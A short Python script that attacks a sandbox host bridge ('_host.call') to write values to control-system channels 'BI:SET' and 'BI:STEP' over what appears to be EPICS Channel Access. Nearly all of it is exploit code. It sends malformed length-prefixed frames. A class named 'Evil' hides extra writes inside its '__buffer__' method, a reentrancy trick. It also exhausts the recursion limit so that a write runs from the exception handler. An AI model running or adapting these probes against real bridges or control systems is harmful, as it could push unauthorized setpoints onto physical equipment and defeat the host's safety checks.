import _host, json, struct
def frame(head, payload=b"", n=None):
    h = head if isinstance(head, bytes) else json.dumps(head).encode()
    return struct.pack("<I", len(h) if n is None else n) + h + payload
def send(head, payload=b"", n=None):
    try:
        return bytes(_host.call(frame(head, payload, n)))
    except BaseException as e:
        return repr(e)
def write(ch, v, proto="ca", **k):
    return send({"call": "control.write", "args": {"protocol": proto, "writes": [{"channel": ch, "value": v}], **k}})
F = lambda v: {"t": "float", "v": v}
class B(bytes): pass
class Evil:
    def __buffer__(self, flags):
        write("BI:SET", F(31.0)); write("BI:STEP", F(31.0))
        return memoryview(frame({"call": "control.write", "args": {"protocol": "ca", "writes": [{"channel": "BI:SET", "value": F(32.0)}]}}))
try: print(bytes(_host.call(Evil()))[:200])
except BaseException as e: print(repr(e))
ba = bytearray(frame({"call": "control.read", "args": {"protocol": "ca", "channels": ["BI:STEP"]}}))
print(bytes(_host.call(ba))[:60])
import sys
def deep(n):
    try: return deep(n + 1)
    except RecursionError: return write("BI:SET", F(33.0))
sys.setrecursionlimit(3000)
print(deep(0))
